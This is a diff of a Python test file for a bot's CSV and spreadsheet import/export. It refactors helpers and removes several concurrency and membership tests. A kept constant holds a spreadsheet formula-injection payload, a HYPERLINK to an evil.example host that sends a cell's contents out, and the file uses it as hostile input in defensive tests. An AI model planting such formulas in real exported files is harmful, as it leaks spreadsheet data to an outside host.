@@ -1,33 +1,19 @@
 """Lists that go out and come back, on both engines: nothing changes by itself, everything or nothing changes on purpose."""
 
-from concurrent.futures import ThreadPoolExecutor
-from datetime import UTC, date, time, timedelta
-from typing import Any, Final
+from datetime import UTC, date, time
+from typing import Any
 
 import pytest
-from builders import NOW
-from furnished import furnish, season
-from operations.people import cluster, held, settle, somebody
-from sqlalchemy import event
-from sqlalchemy import text as sql
+from operations.exchanged import LATER, actor, everything, exported, taken, what
 from sqlmodel import Session, col, select
 
-from bot.files import Form, read, write
+from bot.files import Form, read
 from bot.operations import exchange, perform
-from bot.operations.clusters import edit
-from bot.operations.endings import hold
-from bot.operations.permissions import actor_of
-from bot.operations.representations import claim
-from bot.rules.exchange import Kind, Noun, Plan, Wrong, table_of
-from bot.rules.members import Claimed
-from bot.rules.permissions import Actor, Refused
-from bot.rules.tables import Table
-from bot.rules.versions import Saved
-from bot.texts import exchange as say
+from bot.rules.exchange import Noun, Wrong
+from bot.rules.permissions import Refused
 from store import exchange as stored
-from store.database import Database, open_database
+from store.database import Database
 from store.database import read as ask
-from store.members import by_slack_id
 from store.models import (
     Cluster,
     ClusterFact,
@@ -35,18 +21,13 @@ from store.models import (
     CountrySection,
     Entry,
     Member,
-    MemberState,
     Representation,
-    RepresentationRole,
-    RepresentationState,
     Revision,
     Source,
     metadata,
 )
 from store.network import stamp
-from store.transaction import transaction
 
-LATER = NOW + timedelta(hours=1)
 FORMULA = '=HYPERLINK("http://evil.example?x="&A1;"open")'
 NASTY = (
     FORMULA,
@@ -59,40 +40,6 @@ NASTY = (
     "one\r\ntwo\n\n\nthree  ",
     "_x000D_ \x0b \x01",
 )
-
-
-@pytest.fixture
-def full(database: Database) -> Database:
-    """The whole data set, with the sample people."""
-    furnish(database, *season())
-    return database
-
-
-def everything(db: Session) -> dict[str, list[tuple[Any, ...]]]:
-    """Every row of every table."""
-    connection = db.connection()
-    return {table.name: sorted((tuple(row) for row in connection.execute(table.select())), key=repr) for table in metadata.sorted_tables}
-
-
-def exported(database: Database, noun: Noun, form: Form = Form.CSV, delimiter: str = ",") -> bytes:
-    """A list as a file."""
-    return write(table_of(noun, ask(database, stored.rows, noun)), form, delimiter=delimiter)
-
-
-def taken(database: Database, noun: Noun, table: Table | bytes | str, actor: Actor | None = None) -> Plan:
-    """What became of a file."""
-    if isinstance(table, str):
-        table = table.encode()
-    came = read(table, "x.csv", noun) if isinstance(table, bytes) else table
-    plan = perform(database, exchange.apply, actor=actor, noun=noun, table=came, now=LATER)
-    assert isinstance(plan, Plan)
-    return plan
-
-
-def what(plan: Plan) -> list[tuple[int, str, str]]:
-    """The troubles in short; each can be said."""
-    assert all(say.trouble(one, plan.counted) for one in plan.troubles)
-    return [(one.line, one.column, str(one.what or one.fault.problem)) for one in plan.troubles]
 
 
 @pytest.mark.parametrize("form", Form)
@@ -186,11 +133,6 @@ def test_a_change_keeps_what_was_and_says_who(full: Database) -> None:
     assert after.revision > revision.revision
 
 
-def actor(database: Database, slack_id: str) -> Actor:
-    """Somebody as the door loads them."""
-    return actor_of(ask(database, by_slack_id, slack_id), slack_id, outsider=False)
-
-
 def test_only_the_secretariat_may_and_is_named(full: Database) -> None:
     """A point of contact is refused, and nothing changes; the secretariat's member stands in the audit log."""
     came = read(b"key,website\ncosmetic-valley,https://new.example\n", "x.csv", Noun.CLUSTERS)
@@ -203,21 +145,6 @@ def test_only_the_secretariat_may_and_is_named(full: Database) -> None:
     with Session(full.reader) as db:
         [entry] = db.exec(select(Entry).where(col(Entry.verb) == "network.import")).all()
     assert (entry.actor_id, entry.role) == (paris.member_id, "secretariat")
-
-
-def test_an_edit_made_since_the_export_is_not_lost(full: Database) -> None:
-    """A file is changed in one column, the page meanwhile in another: both stay."""
-    data = exported(full, Noun.CLUSTERS).decode("utf-8-sig").replace('"Cosmetic Valley"', '"Cosmetic Valley France"')
-    paris = actor(full, "UPARIS02")
-    [number] = paris.contact_of
-    saved = perform(full, edit, actor=paris, cluster_id=number, version=0, changes={"hours": "Always"}, now=NOW)
-    assert isinstance(saved, Saved)
-    plan = taken(full, Noun.CLUSTERS, data)
-    [change] = [one for one in plan.changes if one.kind == Kind.CHANGED]
-    assert [field.name for field in change.fields] == ["name"]
-    assert set(change.meanwhile) == {"hours", "checked_on"}
-    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
-    assert (row["name"], row["hours"]) == ("Cosmetic Valley France", "Always")
 
 
 def test_with_one_bad_row_nothing_is_changed(full: Database) -> None:
@@ -243,114 +170,6 @@ def test_a_thousand_rows_with_three_bad_ones_name_all_three(database: Database) 
     last = ask(database, stored.clusters)[-1]
     assert (last["aliases"], last["hours"], last["presentation"]) == (["@a999", "+b999"], "-x", "=SUM(A1)")
     assert taken(database, Noun.CLUSTERS, exported(database, Noun.CLUSTERS)).same == 1000
-
-
-def test_two_at_once_follow_each_other(full: Database) -> None:
-    """The same new cluster in two files at one moment is made once; an edit at that moment is neither lost nor in the way."""
-    paris = actor(full, "UPARIS02")
-    [number] = paris.contact_of
-    text = "key,name,countries,hours\nnew-one,New,KR,\ncosmetic-valley,Cosmetic Valley,FR,Always\n"
-    with ThreadPoolExecutor(3) as pool:
-        files = [pool.submit(taken, full, Noun.CLUSTERS, text) for _ in range(2)]
-        change = {"actor": paris, "cluster_id": number, "version": 0, "changes": {"website": "https://new.example"}, "now": NOW}
-        edited = pool.submit(perform, full, edit, **change)
-        plans = [one.result(60) for one in files]
-    assert isinstance(edited.result(), Saved)
-    assert sorted(plan.new for plan in plans) == [0, 1]
-    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
-    assert (row["hours"], row["website"], row["version"]) == ("Always", "https://new.example", 2)
-
-
-def statements(database: Database, noun: Noun, text: str) -> int:
-    """How many statements a file takes: as long as they last, nobody else writes. SQLite inserts numbered rows one by one."""
-    counted: list[str] = []
-
-    def count(_connection: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
-        counted.extend([] if statement.startswith("INSERT") else [statement])
-
-    event.listen(database.writer, "before_cursor_execute", count)
-    plan = taken(database, noun, text)
-    event.remove(database.writer, "before_cursor_execute", count)
-    assert (plan.applied, plan.new + plan.changed) == (True, text.count("\n") - 1)
-    return len(counted)
-
-
-FILES: Final = (
-    (
-        Noun.CLUSTERS,
-        "key,name,countries,presentation,language,presentation_in_language,facts",
-        "c-{n},C {n},KR,A,fr,B,F | 1 | 2020 | S {n}",
-    ),
-    (
-        Noun.CLUSTERS,
-        "key,countries,presentation,language,presentation_in_language,hours,facts",
-        "c-{n},JP,C,it,D,Always,F | 2 | 2021 | T {n}",
-    ),
-    (Noun.MEMBERS, "slack_id,name,contact_of,represents", "UX{n},Person {n},c-{n},"),
-    (Noun.MEMBERS, "slack_id,contact_of,represents", "UX{n},,c-{n}"),
-    (Noun.MEMBERS, "slack_id,represents", "UX{n},"),
-    (Noun.MEMBERS, "slack_id,contact_of", "UX{n},c-{n}"),
-    (Noun.CLUSTERS, "key,retired", "c-{n},yes"),
-)
-
-
-def test_many_rows_take_as_many_statements_as_a_few(database: Database) -> None:
-    """A file of a thousand rows does not hold everybody up: what is new, what changes, and what ends."""
-    for noun, heading, row in FILES:
-        few, many = (
-            statements(database, noun, "\n".join([heading, *(row.format(n=n) for n in numbers), ""]))
-            for numbers in (range(100, 103), range(103, 150))
-        )
-        assert many == few, heading
-
-
-def test_a_plan_made_before_holds_only_while_nothing_has_changed(full: Database) -> None:
-    """What somebody saved between the plan and its turn is neither overlooked nor written over."""
-    table = read(b"key,website,hours\ncosmetic-valley,https://new.example,Always\n", "x.csv", Noun.CLUSTERS)
-    planned = ask(full, exchange.plan, noun=Noun.CLUSTERS, table=table, now=LATER)
-    paris = actor(full, "UPARIS02")
-    [number] = paris.contact_of
-    perform(full, edit, actor=paris, cluster_id=number, version=0, changes={"hours": "Always", "since": 1994}, now=NOW)
-    plan = perform(full, exchange.apply, actor=None, noun=Noun.CLUSTERS, table=table, now=LATER, planned=planned)
-    assert [[field.name for field in change.fields] for change in plan.changes] == [["website"]]
-    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
-    assert (row["website"], row["hours"], row["since"], row["version"]) == ("https://new.example", "Always", 1994, 2)
-    with Session(full.reader) as db:
-        kept = db.exec(select(Revision).order_by(col(Revision.number))).all()
-    assert [(one.data["hours"], one.data["website"]) for one in kept] == [("", ""), ("Always", "")]
-
-
-def test_an_import_of_people_and_a_claim_never_wait_in_a_circle(postgres_url: str) -> None:
-    """Who claims has locked a cluster and then points to a person; the import has locked the people and waits for the clusters."""
-    database = open_database(postgres_url)
-    settle(database, ["Alpha"], UNEW="", UCON="Alpha/contact")
-    table = read(b"slack_id,represents\nUCON,alpha\n", "x.csv", Noun.MEMBERS)
-    with ThreadPoolExecutor(1) as pool:
-        with transaction(database) as db:
-            hold(db, cluster(database, "Alpha"))
-            imported = pool.submit(perform, database, exchange.apply, actor=None, noun=Noun.MEMBERS, table=table, now=LATER)
-            waiting(database)
-            assert isinstance(claim(db, actor=somebody("UNEW"), cluster_id=cluster(database, "Alpha"), now=NOW), Claimed)
-        assert imported.result(30).changed == 1
-    assert held(database)["UNEW", "Alpha"] == ("representative", "pending")
-    database.dispose()
-
-
-def waiting(database: Database) -> None:
-    """Until somebody waits for a lock."""
-    locks = sql("SELECT count(*) FROM pg_locks WHERE NOT granted")
-    with Session(database.reader) as db:
-        while not db.connection().execute(locks).scalar_one():
-            pass
-
-
-def test_an_import_leaves_a_secretariat_that_can_act(database: Database) -> None:
-    """Somebody whom nobody has met does not count: the file would lock everybody out."""
-    settle(database, ["Alpha"], UCON="")
-    plan = taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUGHOST99,secretariat\n", actor(database, "USEC"))
-    assert what(plan) == [(2, "role", "no_secretariat")]
-    assert not plan.applied
-    assert taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUCON,secretariat\n", actor(database, "USEC")).applied
 
 
 def test_a_date_that_excel_rewrote_is_still_the_same_day(full: Database) -> None:
@@ -397,68 +216,3 @@ def test_parts_of_countries_come_by_file(full: Database) -> None:
     with Session(full.reader) as db:
         kept = db.exec(select(Revision).where(col(Revision.subject) == "KR/regulation").order_by(col(Revision.number))).all()
     assert [one.data.get("text") for one in kept] == [None, "Text"]
-
-
-def acts(database: Database) -> set[tuple[str, str, str]]:
-    """Who acts for whom, as what."""
-    rows = ask(database, stored.members)
-    return {(row["key"], name, key) for row in rows for name in ("contact_of", "represents") for key in row[name]}
-
-
-def test_people_come_by_file_and_act_at_once(full: Database) -> None:
-    """A new person by Slack id, confirmed; a claim that waited is confirmed; who was the point of contact becomes a representative."""
-
-    def claim(db: Session) -> None:
-        member = db.exec(select(Member).where(col(Member.slack_id) == "UCALI01")).one()
-        cluster = db.exec(select(Cluster).where(col(Cluster.key) == "iba")).one()
-        db.add(Representation(member_id=member.id, cluster_id=cluster.id, claimed_at=NOW))
-
-    perform(full, claim)
-    before = acts(full)
-    text = "slack_id,name,zone,contact_of,represents\nUNEW01,Newcomer Cali,America/Bogota,cali-valle-del-cauca,iba\nUCALI01,,,,iba\n"
-    plan = taken(full, Noun.MEMBERS, text)
-    assert (what(plan), plan.new, plan.changed) == ([], 1, 1)
-    assert plan.changes[1].left == ("name", "zone")
-    now = acts(full)
-    assert now - before == {
-        ("UNEW01", "contact_of", "cali-valle-del-cauca"),
-        ("UNEW01", "represents", "iba"),
-        ("UCALI01", "represents", "iba"),
-    }
-    assert before - now == {("UCALI01", "contact_of", "cali-valle-del-cauca")}
-    with Session(full.reader) as db:
-        decided = db.exec(select(Representation).where(col(Representation.decided_at) == LATER)).all()
-        assert {one.state for one in decided} == {RepresentationState.CONFIRMED}
-        assert len(decided) == 3
-    assert taken(full, Noun.MEMBERS, exported(full, Noun.MEMBERS)).same == 15
-
-
-def test_who_is_replaced_by_a_file_stays_a_representative(full: Database) -> None:
-    """One point of contact a cluster, also when the file does not speak of the one until now."""
-    taken(full, Noun.MEMBERS, "slack_id,contact_of\nUKARATSU02,japan-cosmetic-center\n")
-    assert {("UKARATSU02", "contact_of", "japan-cosmetic-center"), ("UKARATSU01", "represents", "japan-cosmetic-center")} <= acts(full)
-    with Session(full.reader) as db:
-        fields = [tuple(entry.fields) for entry in db.exec(select(Entry)).all()]
-    assert (RepresentationRole.REPRESENTATIVE,) in fields
-
-
-def test_what_is_a_persons_own_stays_theirs(full: Database) -> None:
-    """Slack tells names and zones, people choose quiet hours: a file that differs there changes nothing, and says so."""
-    before = ask(full, everything)
-    plan = taken(full, Noun.MEMBERS, "slack_id,name,zone,quiet_from,fewer,state\nUCALI01,Other,Europe/Paris,01:00,yes,gone\n")
-    assert (plan.same, set(plan.changes[0].left)) == (1, {"name", "zone", "quiet_from", "fewer", "state"})
-    assert ask(full, everything) == before
-
-
-def test_who_was_erased_does_not_come_back_by_an_old_file(full: Database) -> None:
-    """An export of before still holds them: the row is named, and they are in no new export."""
-    data = exported(full, Noun.MEMBERS)
-
-    def erase(db: Session) -> None:
-        member = db.exec(select(Member).where(col(Member.slack_id) == "UCALI01")).one()
-        member.slack_id, member.name, member.state = None, "", MemberState.ERASED
-
-    perform(full, erase)
-    plan = taken(full, Noun.MEMBERS, data)
-    assert [one[2] for one in what(plan)] == ["erased"]
-    assert b"UCALI01" not in exported(full, Noun.MEMBERS)
